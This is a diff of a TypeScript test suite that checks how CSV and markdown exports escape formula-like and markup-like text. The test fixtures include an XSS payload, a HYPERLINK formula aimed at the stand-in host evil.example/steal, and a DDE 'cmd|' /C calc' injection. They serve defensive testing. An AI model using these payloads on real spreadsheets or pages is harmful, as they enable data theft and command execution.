@@ -76,9 +76,11 @@ describe('CSV export of formula-like text', () => {
         timeline: [],
         commonApproaches: [],
       },
-      ['governance'],
+      { sections: ['governance'], differencesOnly: false },
     );
-    const heading = markdown.split('\n').find((line) => line.startsWith('## '))!;
+    const heading = markdown
+      .split('\n')
+      .find((line) => line.startsWith('## ') && line !== '## What they have in common')!;
     expect(heading).toBe(String.raw`## \<img src=x onerror=alert(1)\> \[x\](javascript:alert(1))`);
   });
 
@@ -100,11 +102,12 @@ describe('CSV export of formula-like text', () => {
     // Each hostile text is there, whole, behind its apostrophe.
     expect(values).toContain(`'=HYPERLINK("https://evil.example/steal","click")`);
     expect(values.some((v) => v.startsWith("'+1 government"))).toBe(true);
-    expect(values).toContain("'-2 ministry");
-    expect(values).toContain("'+1 government [-2 ministry]");
+    expect(values).toContain("'-2 ministry (national tier, ministry)");
+    expect(values).toContain("'+1 government (national tier) [-2 ministry (ministry)]");
+    expect(values).toContain("'-2 ministry, ministry: children's social work and care.");
     expect(values.some((v) => v.startsWith("'@SUM(A1:A9)"))).toBe(true);
     expect(values.some((v) => v.startsWith("'@SUM(1+1)*cmd|' /C calc'!A0"))).toBe(true);
-    expect(values).toContain("'\t=1+2 after a tab");
+    expect(values).toContain("'\t=1+2 after a tab: A lesson whose title starts with a tab.");
     expect(r.text).toContain(`"'=HYPERLINK(""https://evil.example/steal"",""click"")"`);
     // A text with such a character later on is left as it is.
     expect(values.some((v) => v.startsWith('Hostile <b>case</b> (baseline): =HYPERLINK('))).toBe(true);
